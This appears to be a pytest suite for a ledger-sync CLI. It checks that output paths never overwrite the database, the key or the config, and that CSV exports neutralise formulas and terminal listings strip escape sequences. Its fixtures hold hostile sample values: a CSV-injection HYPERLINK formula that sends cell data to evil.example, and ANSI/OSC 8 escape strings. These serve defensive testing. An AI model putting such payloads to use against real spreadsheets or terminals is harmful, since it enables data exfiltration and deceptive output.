"""Careless commands and hostile text at the command line: `--output` never destroys the installation's
files or anything it did not write, writes atomically and 0600, leaves no temporary file after a kill;
the demo never touches a directory it did not make; the ledger CSV keeps rows whole and formulas dead;
listings print vendor text literally; a key file others can read is refused."""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from reconcile.report.csvfile import CSV_ENCODING
from store.canonical import PartyRef
from store.db import make_engine
from store.runs import SqlSyncLog
from store.secrets import create_key_file
from sync.demo import MARKER_NAME, check_demo_directory
from sync.outputs import TEMP_MARK, Destination, OutputRefused, check_destination, protected_files
from tests.e2e.report_support import NOW, Ran, crm_vs_books, run_cli, store_documents
from tests.unit.reconcile.helpers import invoice

RULES = crm_vs_books("tolerance: {amount: 0.01}")
HOSTILE_NAME = "[red]Evil[/red] \x1b]8;;http://evil.example\x1b\\Co\x1b]8;;\x1b\\ \x1b[2J"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Acme")'


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


@pytest.fixture
def install(tmp_path: Path, _sqlite_template: Path, umask_022: None) -> Path:
    """A SQLite installation: config, database with documents (hostile text included), key file."""
    database = tmp_path / "ledger.db"
    shutil.copyfile(_sqlite_template, database)
    config = tmp_path / "ledgerbridge.yaml"
    config.write_text(
        f"database_url: sqlite:///{database}\nbase_currency: CNY\ntimezone: Asia/Shanghai\nlocale: en\n{RULES}",
        encoding="utf-8",
    )
    assert create_key_file(tmp_path / "ledger.key")
    engine = make_engine(f"sqlite:///{database}")
    try:
        store_documents(
            engine,
            [
                invoice("zoho-crm", "c1", "INV-0001", "100.00", party=FORMULA_NAME, owner="-1+1"),
                invoice("zoho-books", "b1", "INV-0001", "-90.00", party=PartyRef(name=HOSTILE_NAME)),
                invoice("zoho-crm", "c2", "INV-0002", "5.00", party="line one\rline two", owner="@owner"),
            ],
        )
    finally:
        engine.dispose()
    return config


def _cli(capsys: pytest.CaptureFixture[str], config: Path, *args: str) -> Ran:
    return run_cli(capsys, config, list(args))


def _report(capsys: pytest.CaptureFixture[str], config: Path, fmt: str, output: Path, *extra: str) -> Ran:
    return _cli(
        capsys,
        config,
        "report",
        "aging",
        "--invoices-from",
        "zoho-crm",
        "--format",
        fmt,
        "--output",
        str(output),
        *extra,
    )


# ---------------------------------------------------------------------------- the installation's files


@pytest.mark.parametrize("target", ["ledger.db", "ledger.key", "ledgerbridge.yaml"])
@pytest.mark.parametrize("force", [False, True], ids=["plain", "forced"])
def test_a_report_never_overwrites_the_database_its_key_or_the_config_even_forced(
    install: Path, capsys: pytest.CaptureFixture[str], target: str, force: bool
) -> None:
    path = install.parent / target
    before = path.read_bytes()
    ran = _report(capsys, install, "csv", path, *(["--force"] if force else []))
    assert ran.status == 2
    assert ran.err.count("\n") == 1
    assert "choose another --output path" in ran.err
    assert path.read_bytes() == before


def test_the_ledger_export_never_overwrites_the_database(
    install: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = install.parent / "ledger.db"
    before = database.read_bytes()
    ran = _cli(capsys, install, "ledger", "export", "--format", "csv", "--output", str(database), "--force")
    assert ran.status == 2
    assert "is the database" in ran.err
    assert database.read_bytes() == before


def test_the_sqlite_files_beside_the_database_are_protected_too(tmp_path: Path) -> None:
    database = tmp_path / "ledger.db"
    destination = Destination(protected=protected_files(config=None, database=database, key_file=None))
    for name in ("ledger.db-wal", "ledger.db-shm", "ledger.db-journal"):
        with pytest.raises(OutputRefused, match="is the database"):
            check_destination(tmp_path / name, "report-csv", destination)


def test_a_symlink_to_the_key_file_is_refused_too(install: Path, capsys: pytest.CaptureFixture[str]) -> None:
    link = install.parent / "innocent.csv"
    link.symlink_to(install.parent / "ledger.key")
    before = (install.parent / "ledger.key").read_bytes()
    ran = _report(capsys, install, "csv", link, "--force")
    assert ran.status == 2
    assert "encryption key file" in ran.err
    assert (install.parent / "ledger.key").read_bytes() == before


# ---------------------------------------------------------------------------- other existing files


@pytest.mark.parametrize(
    ("command", "fmt"),
    [
        ("report", "csv"),
        ("report", "xlsx"),
        ("report", "html"),
        ("report", "json"),
        ("report", "table"),
        ("ledger", "csv"),
        ("ledger", "jsonl"),
    ],
)
def test_an_existing_file_is_replaced_only_when_it_is_a_previous_output_of_the_same_kind(
    install: Path, capsys: pytest.CaptureFixture[str], command: str, fmt: str, tmp_path: Path
) -> None:
    def write(path: Path, *extra: str) -> Ran:
        if command == "report":
            return _report(capsys, install, fmt, path, *extra)
        return _cli(capsys, install, "ledger", "export", "--format", fmt, "--output", str(path), *extra)

    foreign = tmp_path / f"backup-of-something.{fmt}"
    foreign.write_bytes(b"precious data someone kept here\n")
    refused = write(foreign)
    assert refused.status == 2, refused.err
    assert "pass --force to replace it" in refused.err
    assert foreign.read_bytes() == b"precious data someone kept here\n"

    output = tmp_path / f"out.{fmt}"
    assert write(output).status == 0
    first = output.read_bytes()
    again = write(output)
    assert again.status == 0, again.err  # a previous output of the same kind: replaced
    assert output.read_bytes()[:64] == first[:64]

    forced = write(foreign, "--force")
    assert forced.status == 0
    assert foreign.read_bytes() != b"precious data someone kept here\n"


def test_a_previous_output_of_another_format_is_not_replaced(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "report.out"
    assert _report(capsys, install, "json", output).status == 0
    before = output.read_bytes()
    ran = _report(capsys, install, "csv", output)
    assert ran.status == 2
    assert "CSV report" in ran.err
    assert output.read_bytes() == before


def test_the_refusal_is_in_the_reports_language(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    foreign = tmp_path / "notes.txt"
    foreign.write_text("keep me", encoding="utf-8")
    ran = _report(capsys, install, "csv", foreign, "--lang", "zh")
    assert ran.status == 2
    assert "已存在" in ran.err
    assert "--force" in ran.err


# ---------------------------------------------------------------------------- modes and temporary files


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reports_and_exports_are_written_owner_only_under_umask_022(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path, fmt: str
) -> None:
    report = tmp_path / f"aging.{fmt}"
    export = tmp_path / "ledger.jsonl"
    assert _report(capsys, install, fmt, report).status == 0
    assert _cli(capsys, install, "ledger", "export", "--output", str(export)).status == 0
    assert stat.S_IMODE(report.stat().st_mode) == 0o600
    assert stat.S_IMODE(export.stat().st_mode) == 0o600


def test_a_new_database_and_a_backup_are_owner_only_under_umask_022(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], umask_022: None
) -> None:
    config = tmp_path / "ledgerbridge.yaml"
    config.write_text(
        f"database_url: sqlite:///{tmp_path / 'new.db'}\nbase_currency: CNY\n", encoding="utf-8"
    )
    assert _cli(capsys, config, "init").status == 0
    backup = tmp_path / "copy.db"
    assert _cli(capsys, config, "backup", str(backup)).status == 0
    assert stat.S_IMODE((tmp_path / "new.db").stat().st_mode) == 0o600
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600


def test_a_key_file_others_can_read_is_refused_with_the_chmod_to_run(
    install: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    key = install.parent / "ledger.key"
    key.chmod(0o644)
    monkeypatch.setattr("sys.stdin", io.StringIO("the api secret\n"))
    ran = _cli(capsys, install, "secret", "set", "api", "--stdin")
    assert ran.status == 1, ran.err
    assert f"chmod 600 {key}" in ran.err
    assert ran.err.count("\n") == 1


_WRITER = """
import sys, time
from pathlib import Path
from sync.outputs import atomic_output
with atomic_output(Path(sys.argv[1]), binary=False) as out:
    out.write("half a report" * 1000)
    out.flush()
    print("writing", flush=True)
    time.sleep(60)
"""


def test_a_temporary_file_left_by_a_killed_writer_is_gone_after_the_next_run(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "reports" / "aging.csv"
    writer = subprocess.Popen(
        [sys.executable, "-c", _WRITER, str(output)], stdout=subprocess.PIPE, text=True, cwd=Path.cwd()
    )
    try:
        assert writer.stdout is not None
        assert writer.stdout.readline().strip() == "writing"
        os.kill(writer.pid, signal.SIGKILL)
        writer.wait(timeout=10)
    finally:
        if writer.poll() is None:
            writer.kill()
            writer.wait(timeout=10)
        if writer.stdout is not None:
            writer.stdout.close()
    partials = [p for p in output.parent.iterdir() if TEMP_MARK in p.name]
    assert len(partials) == 1
    assert not output.exists()
    assert _report(capsys, install, "csv", output).status == 0
    assert [p.name for p in output.parent.iterdir()] == ["aging.csv"]


def test_a_running_writers_temporary_file_is_left_alone(tmp_path: Path) -> None:
    from sync.outputs import remove_stale_partials

    mine = tmp_path / f".x.csv{TEMP_MARK}{os.getpid()}-abc"
    mine.write_text("in progress", encoding="utf-8")
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".x.csv{TEMP_MARK}{dead.pid}-def"
    stale.write_text("abandoned", encoding="utf-8")
    time.sleep(0.05)
    assert remove_stale_partials(tmp_path) == [stale]
    assert mine.exists()


# ---------------------------------------------------------------------------- ledger CSV


def test_the_ledger_csv_keeps_a_bare_cr_inside_its_row_and_neutralises_formulas(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "ledger.csv"
    assert _cli(capsys, install, "ledger", "export", "--format", "csv", "--output", str(output)).status == 0
    with output.open(encoding=CSV_ENCODING, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["external_id"] for row in rows] == ["b1", "c1", "c2"] or len(rows) == 3
    by_id = {row["external_id"]: row for row in rows}
    assert by_id["c2"]["party_name"] == "line one\rline two"
    assert by_id["c1"]["party_name"] == "'" + FORMULA_NAME
    assert by_id["c1"]["owner"] == "'-1+1"
    assert by_id["c2"]["owner"] == "'@owner"
    assert by_id["b1"]["total"] == "-90.00"  # an amount stays a number


def test_the_ledger_csv_starts_with_the_bom_so_excel_reads_its_chinese(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "ledger.csv"
    assert _cli(capsys, install, "ledger", "export", "--format", "csv", "--output", str(output)).status == 0
    data = output.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfsource,kind,external_id,")
    assert data.count(b"\xef\xbb\xbf") == 1


def test_a_ledger_csv_exported_before_the_bom_is_still_replaced_as_a_previous_export(
    install: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "ledger.csv"
    assert _cli(capsys, install, "ledger", "export", "--format", "csv", "--output", str(output)).status == 0
    output.write_bytes(output.read_bytes().removeprefix(b"\xef\xbb\xbf"))  # as written before issue 15
    again = _cli(capsys, install, "ledger", "export", "--format", "csv", "--output", str(output))
    assert again.status == 0, again.err
    assert output.read_bytes().startswith(b"\xef\xbb\xbfsource,")


# ---------------------------------------------------------------------------- terminal listings


def test_listings_print_vendor_markup_literally_and_no_escape_sequence(
    install: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _cli(capsys, install, "reconcile", "run").status == 0
    listed = _cli(capsys, install, "exceptions", "list")
    shown = _cli(capsys, install, "exceptions", "show", "1")
    history = _cli(capsys, install, "ledger", "history", "zoho-books", "invoice", "b1")
    table = _cli(capsys, install, "report", "mismatches")
    for ran in (listed, shown, history, table):
        assert ran.status == 0, ran.err
        assert "\x1b" not in ran.out
        assert "\r" not in ran.out
    assert "[red]Evil[/red]" in shown.out + listed.out


def test_sync_status_prints_a_hostile_vendor_error_literally_and_no_escape_sequence(
    install: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    engine = make_engine(f"sqlite:///{install.parent / 'ledger.db'}")
    try:
        log = SqlSyncLog(engine)
        run = log.start("zoho-crm", "invoices", mode="incremental", since=None, now=NOW)
        log.finish(run, status="failed", now=NOW, error=f"HTTP 500: {HOSTILE_NAME}\rFAKE: ok")
    finally:
        engine.dispose()
    status = _cli(capsys, install, "sync", "status")
    assert status.status == 0, status.err
    assert "\x1b" not in status.out
    assert "\r" not in status.out
    assert "[red]Evil[/red]" in status.out


# ---------------------------------------------------------------------------- the demo's directory


def test_the_demo_refuses_a_directory_holding_an_installation_and_changes_nothing(
    install: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = install.parent
    before = {p.name: p.read_bytes() for p in directory.iterdir() if p.is_file()}
    code = _demo(capsys, directory, "en")
    assert code.status == 2
    assert "choose another --dir" in code.err
    assert code.err.count("\n") == 1
    assert {p.name: p.read_bytes() for p in directory.iterdir() if p.is_file()} == before
    assert not (directory / MARKER_NAME).exists()


def test_the_demo_refusal_is_in_chinese_by_default(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    ran = _demo(capsys, tmp_path, None)
    assert ran.status == 2
    assert "请用 --dir 指定其他目录" in ran.err


def _demo(capsys: pytest.CaptureFixture[str], directory: Path, lang: str | None) -> Ran:
    from sync.cli import main

    capsys.readouterr()
    status = main(["demo", "--dir", str(directory), *(["--lang", lang] if lang else [])])
    captured = capsys.readouterr()
    return Ran(status, captured.out, captured.err)


def test_the_demo_accepts_a_new_an_empty_a_marked_or_an_older_demos_directory(tmp_path: Path) -> None:
    check_demo_directory(tmp_path / "new")
    check_demo_directory(tmp_path)
    marked = tmp_path / "marked"
    marked.mkdir()
    (marked / MARKER_NAME).write_text("demo", encoding="utf-8")
    (marked / "my-notes.txt").write_text("written in a demo directory", encoding="utf-8")
    check_demo_directory(marked)
    older = tmp_path / "older"
    older.mkdir()
    (older / "ledgerbridge.yaml").write_text(
        "# ledgerbridge demo configuration, written by `ledgerbridge demo`.\n", encoding="utf-8"
    )
    (older / "ledgerbridge.db").write_bytes(b"")
    check_demo_directory(older)


def test_a_config_named_like_the_demos_but_not_written_by_it_is_refused(tmp_path: Path) -> None:
    from sync.demo import DemoDirectoryRefused

    (tmp_path / "ledgerbridge.yaml").write_text("database_url: sqlite:///prod.db\n", encoding="utf-8")
    with pytest.raises(DemoDirectoryRefused):
        check_demo_directory(tmp_path)
